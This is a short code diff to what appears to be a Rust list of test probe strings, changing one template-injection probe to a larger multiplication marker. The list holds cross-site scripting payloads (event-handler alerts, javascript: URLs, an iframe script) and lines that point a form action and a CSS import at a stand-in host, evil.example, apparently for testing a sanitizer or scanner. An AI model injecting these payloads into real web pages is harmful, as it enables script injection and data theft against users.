@@ -16,7 +16,7 @@ const WANTS: [&str; 10] = [
     " x-p=1 onmouseover=alert(1) ",
     "<svg x-p onload=alert(1)>",
     "<a x-p href=\"javascript:alert(1)\">x</a>",
-    "{{ 7*7 }}x-p{% raw %}",
+    "{{ 7919*7907 }}x-p{% raw %}",
     "<iframe x-p srcdoc=\"<script>alert(1)</script>\">",
     "<form x-p action=//evil.example><button>",
     "javascript:alert(1)//<style x-p>@import '//evil.example';</style>",
